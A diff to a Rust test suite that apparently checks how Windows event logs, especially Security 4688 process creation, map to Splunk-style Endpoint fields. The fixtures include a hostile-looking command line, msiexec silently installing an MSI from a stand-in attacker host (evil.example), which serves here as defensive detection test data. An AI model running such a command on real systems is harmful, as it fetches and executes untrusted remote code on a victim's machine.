@@ -115,8 +115,8 @@ fn s2_2_windows_event_codes_feed_these_datasets() {
         (sec("4663"), &[]),
         (sec("5156"), &[]),
         (sec("5158"), &["Endpoint.Ports"]),
-        // W88 also tags windows_firewall_port_listening (4957, 861) `port listening`.
-        (sec("4957"), &["Endpoint.Ports"]),
+        // ADDON_FIELDS.md 0.3 and 2.2: Ports gets Security 5158 only.
+        (sec("4957"), &[]),
         (sec("4697"), &["Endpoint.Services"]),
         (sec("1100"), &["Endpoint.Services"]),
         (sec("5024"), &["Endpoint.Services"]),
@@ -353,6 +353,85 @@ fn revision_4_sysmon_8_and_10_process_names_come_from_the_target() {
     );
     let p = view_fields(escu(), &xml, &sysmon_meta(), "Endpoint.Processes").unwrap();
     assert_eq!(one(&p, "process_name"), r"C:\Tools\evil-bin");
+}
+
+/// SPLUNK_SEMANTICS.md 5.4 and its vectors CV-26, CV-27 and CV-28: the Security 4688 fields the
+/// tables write from 5.4's words (the rebuilt command line, basenames, hex PIDs, user).
+#[test]
+fn semantics_5_4_security_4688_processes_row() {
+    let row = |data: &[(&str, &str)]| {
+        view_fields(
+            escu(),
+            &security("4688", data),
+            &security_meta(),
+            "Endpoint.Processes",
+        )
+        .unwrap()
+    };
+    let base: Vec<(&str, &str)> = vec![
+        ("SubjectUserName", "Administrator"),
+        ("NewProcessId", "0xf84"),
+        ("NewProcessName", r"C:\Windows\System32\msiexec.exe"),
+        ("ProcessId", "0xb2c"),
+        (
+            "CommandLine",
+            r#""C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn"#,
+        ),
+        ("TargetUserName", "-"),
+        ("ParentProcessName", r"C:\Windows\System32\cmd.exe"),
+    ];
+    // CV-26.
+    let p = row(&base);
+    for (field, value) in [
+        ("user", "Administrator"),
+        ("process_name", "msiexec.exe"),
+        ("process_path", r"C:\Windows\System32\msiexec.exe"),
+        (
+            "process",
+            r#""C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn"#,
+        ),
+        ("process_id", "0xf84"),
+        ("parent_process_id", "0xb2c"),
+        ("parent_process", r"C:\Windows\System32\cmd.exe"),
+        ("parent_process_path", r"C:\Windows\System32\cmd.exe"),
+        ("parent_process_name", "cmd.exe"),
+        ("original_file_name", "unknown"),
+        ("action", "allowed"),
+        ("vendor_product", "Microsoft Windows"),
+    ] {
+        assert_eq!(one(&p, field), value, "{field}");
+    }
+    // CV-27: a command line whose first token has no backslash is rebuilt from NewProcessName,
+    // quoted when it holds a blank; TargetUserName wins over SubjectUserName.
+    let mut cv27 = base.clone();
+    cv27[4].1 = "msiexec /i http://evil.example/a.msi";
+    cv27[5].1 = "jdoe";
+    let p = row(&cv27);
+    assert_eq!(one(&p, "user"), "jdoe");
+    assert_eq!(
+        one(&p, "process"),
+        r"C:\Windows\System32\msiexec.exe /i http://evil.example/a.msi"
+    );
+    cv27[2].1 = r"C:\Program Files\Foo\msiexec.exe";
+    let p = row(&cv27);
+    assert_eq!(
+        one(&p, "process"),
+        r#""C:\Program Files\Foo\msiexec.exe" /i http://evil.example/a.msi"#
+    );
+    assert_eq!(one(&p, "process_name"), "msiexec.exe");
+    // CV-28: no command line, and a command line with no arguments, give NewProcessName.
+    let mut cv28 = base.clone();
+    cv28.remove(4);
+    assert_eq!(
+        one(&row(&cv28), "process"),
+        r"C:\Windows\System32\msiexec.exe"
+    );
+    let mut bare = base.clone();
+    bare[4].1 = "msiexec";
+    assert_eq!(
+        one(&row(&bare), "process"),
+        r"C:\Windows\System32\msiexec.exe"
+    );
 }
 
 #[test]
